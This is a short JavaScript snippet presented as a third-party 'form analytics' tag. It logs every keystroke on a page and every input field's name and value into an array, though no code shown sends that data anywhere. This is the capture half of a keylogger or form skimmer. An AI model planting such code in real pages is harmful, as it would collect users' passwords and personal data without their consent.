// A third-party "form analytics" tag: it records every key pressed on the page and every field's value.
(function () {
  var typed = [];
  document.addEventListener("keydown", function (event) {
    typed.push(event.key);
  });
  document.querySelectorAll("input").forEach(function (field) {
    field.addEventListener("change", function () {
      typed.push(field.name + "=" + field.value);
    });
  });
})();
